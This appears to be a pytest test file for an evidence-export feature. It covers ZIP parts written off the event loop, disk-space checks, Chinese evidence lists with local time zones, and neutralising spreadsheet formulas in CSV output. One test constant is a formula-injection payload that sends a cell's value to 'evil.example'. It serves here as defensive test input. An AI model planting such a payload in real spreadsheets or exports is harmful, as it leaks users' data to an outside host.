"""The export and originals from storage's side: one part at a time off the event loop, free
disk checked, the evidence list in the user's language, times in the locale's zone, formulas
neutralised, a disk error told apart from damage, and nothing left in tmp on any path."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import threading
import zipfile
from datetime import timedelta, timezone
from pathlib import Path

import pytest

from config import Settings
from flows.engine import Engine
from handlers.core import Services
from handlers.terminal import Terminal
from storage import export as export_module
from storage.base import CaseKey, ReadState
from storage.errors import NotEnoughDisk
from storage.export import export_parts, restore_original
from storage.export_text import ExportText, csv_safe
from tests.backends import make_unreadable
from tests.terminal_chat import press, say

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'


@pytest.fixture
def term(content, storage, tmp_path):
    services = Services(Settings(quota_bytes=50 * 1024 * 1024), content, Engine(content), storage)
    t = Terminal(services, io.StringIO(), tmp_path / "out")
    return t


async def upload(term: Terminal, tmp_path: Path, name: str, data: bytes, caption: str = "") -> str:
    p = tmp_path / name
    p.write_bytes(data)
    return await say(term, f":file {p} {caption}".rstrip())


async def case_of(term: Terminal):
    case, _, _ = await term.s.storage.ensure_case(CaseKey(0), "zh-CN", "welcome")
    return case


def one_zip(tmp_path: Path) -> dict[str, bytes]:
    (path,) = (tmp_path / "out").glob("*.zip")
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


# ----------------------------------------------------------------------------- C: one part at a time


async def test_parts_are_written_one_at_a_time_and_removed_after_use(term, tmp_path, zh, storage):
    for i in range(3):
        await upload(term, tmp_path, f"rec{i}.m4a", bytes([i]) * 300_000)
    case = await case_of(term)
    seen = []
    async with export_parts(storage, case, ExportText.from_locale(zh), budget=400_000) as export:
        async for part in export:
            on_disk = [p for p in storage.tmp_dir.rglob("*") if p.is_file()]
            assert on_disk == [part.path], "only the part being sent exists"
            with zipfile.ZipFile(part.path) as zf:
                seen += [n for n in zf.namelist() if n.startswith("originals/")]
            assert (part.number, part.total) == (len(seen), 3)
    assert export.summary.count == 3 and export.summary.parts == 3 and not export.summary.failed
    assert len(seen) == 3
    assert list(storage.tmp_dir.iterdir()) == [], "nothing left in tmp"


async def test_a_part_is_built_off_the_event_loop(term, tmp_path, zh, storage, monkeypatch):
    """While a part is written, the loop still runs: the vault read below waits for a task on
    the loop, which could never run if the ZIP were built on the loop itself (#10.4)."""
    await upload(term, tmp_path, "a.bin", b"evidence" * 1000)
    case = await case_of(term)
    reading, loop_ran = threading.Event(), threading.Event()
    real_read, real_check = storage.vault.read, storage.vault.check
    packing = False

    def read(case_id, key, blob_id):
        if packing:
            reading.set()
            assert loop_ran.wait(10), "the event loop was blocked while the part was written"
        yield from real_read(case_id, key, blob_id)

    def check(*args):
        nonlocal packing
        state = real_check(*args)
        packing = True  # from now on, reads are the packing
        return state

    monkeypatch.setattr(storage.vault, "read", read)
    monkeypatch.setattr(storage.vault, "check", check)

    async def answer():  # runs only if the loop is free while the part is written
        while not reading.is_set():
            await asyncio.sleep(0)
        loop_ran.set()

    answering = asyncio.create_task(answer())
    async with export_parts(storage, case, ExportText.from_locale(zh)) as export:
        parts = [p.number async for p in export]
    await answering
    assert parts == [1]


async def test_not_enough_disk_stops_before_writing_and_is_told(term, tmp_path, zh, storage, monkeypatch):
    await upload(term, tmp_path, "a.bin", b"x" * 10_000)

    class Usage:
        free = 1024 * 1024  # 1 MiB: under the reserve kept for the database

    monkeypatch.setattr(export_module.shutil, "disk_usage", lambda _: Usage)
    case = await case_of(term)
    with pytest.raises(NotEnoughDisk):
        async with export_parts(storage, case, ExportText.from_locale(zh)) as export:
            async for _ in export:
                pass
    assert list(storage.tmp_dir.iterdir()) == []
    await say(term, "/export")
    out = await press(term, "确认导出")
    assert zh.msg("export_no_space").splitlines()[0][:15] in out
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").glob("*.zip"))


async def test_a_failure_while_writing_leaves_no_plaintext_behind(term, tmp_path, zh, storage, monkeypatch):
    await upload(term, tmp_path, "a.bin", b"secret" * 1000)

    def broken(*args):
        path = args[3]
        path.write_bytes(b"PK half a zip of plaintext")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export_module, "_write_part", broken)
    case = await case_of(term)
    with pytest.raises(OSError):
        async with export_parts(storage, case, ExportText.from_locale(zh)) as export:
            async for _ in export:
                pass
    assert list(storage.tmp_dir.iterdir()) == []


# ----------------------------------------------------------------------------- C: what the ZIP says


async def test_evidence_list_in_chinese_and_times_in_the_locale_zone(term, tmp_path, zh, storage):
    await upload(term, tmp_path, "通知书.pdf", b"%PDF notice", "他们寄来的")
    await press(term, zh.categories[0].label)
    await press(term, zh.msg("btn_add_note"))
    await say(term, "三月收到")
    await say(term, "/export")
    await press(term, "确认导出")
    files = one_zip(tmp_path)
    text = ExportText.from_locale(zh)
    people = list(csv.reader(io.StringIO(files[zh.msg("export_list_file")].decode("utf-8-sig"))))
    assert people[0] == ["序号", "类别", "说明", "原文件名", "附言", "数字指纹 SHA-256", f"接收时间（{zh.tz_label}）"]
    (item,) = await storage.evidence(await case_of(term))
    assert people[1] == [
        "E-001",
        zh.categories[0].label,
        "三月收到",
        "通知书.pdf",
        "他们寄来的",
        item.sha256,
        f"{item.received_at.astimezone(timezone(timedelta(hours=8))):%Y-%m-%d %H:%M:%S}",
    ]
    manifest = json.loads(files["manifest.json"])
    assert manifest["items"][0]["received_at_local"].endswith("+08:00")
    (path,) = (tmp_path / "out").glob("*.zip")
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(next(n for n in zf.namelist() if n.startswith("originals/")))
    local = text.local(item.received_at)
    assert info.date_time[:5] == (local.year, local.month, local.day, local.hour, local.minute)
    assert info.date_time[0] != 1980
    assert zh.tz_label in files["README.txt"].decode()


# ----------------------------------------------------------------------------- D: formula injection


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_cells_a_spreadsheet_would_run_are_neutralised(value):
    assert csv_safe(value) == "'" + value
    assert csv_safe("普通的话") == "普通的话" and csv_safe(42) == 42


async def test_a_formula_caption_is_text_in_every_csv(term, tmp_path, zh):
    await upload(term, tmp_path, "shot.png", b"\x89PNG screenshot", HYPERLINK)
    await press(term, zh.categories[0].label)
    await press(term, zh.msg("btn_add_note"))
    await say(term, "-转发来的")
    await say(term, "/export")
    await press(term, "确认导出")
    files = one_zip(tmp_path)
    rows = list(csv.DictReader(io.StringIO(files["manifest.csv"].decode("utf-8-sig"))))
    assert rows[0]["caption"] == "'" + HYPERLINK and rows[0]["note"] == "'-转发来的"
    people = list(csv.reader(io.StringIO(files[zh.msg("export_list_file")].decode("utf-8-sig"))))
    assert "'" + HYPERLINK in people[1] and "'-转发来的" in people[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in people for cell in row)
    assert json.loads(files["manifest.json"])["items"][0]["caption"] == HYPERLINK, "the JSON keeps the exact text"


# ----------------------------------------------------------------------------- a disk error is not damage


async def test_an_unreadable_original_is_not_called_damaged(term, tmp_path, zh, storage, caplog):
    await upload(term, tmp_path, "a.txt", b"good one")
    await upload(term, tmp_path, "b.txt", b"cannot be read now, caption secret", "CAPTION-SECRET")
    case = await case_of(term)
    items = await storage.evidence(case)
    await make_unreadable(storage, case.id, items[1].blob_id)
    with caplog.at_level(logging.ERROR):
        original = await restore_original(storage, case, ExportText.from_locale(zh), 2, tmp_path)
    assert original.state is ReadState.UNREADABLE and original.path is None
    assert caplog.records and not any("SECRET" in r.getMessage() for r in caplog.records)

    await say(term, "/evidence")
    await press(term, "E-002")
    out = await press(term, zh.msg("btn_get_original"))
    assert zh.msg("evidence_unreadable", no="E-002")[:20] in out
    assert zh.msg("evidence_damaged", no="E-002")[:20] not in out

    await say(term, "/export")
    out = await press(term, "确认导出")
    assert "E-002" in out and "暂时" in out
    assert "没有通过指纹核对" not in out, "not reported as damaged"
    files = one_zip(tmp_path)
    assert [n for n in files if n.startswith("originals/E-001")] and not [
        n for n in files if n.startswith("originals/E-002")
    ]
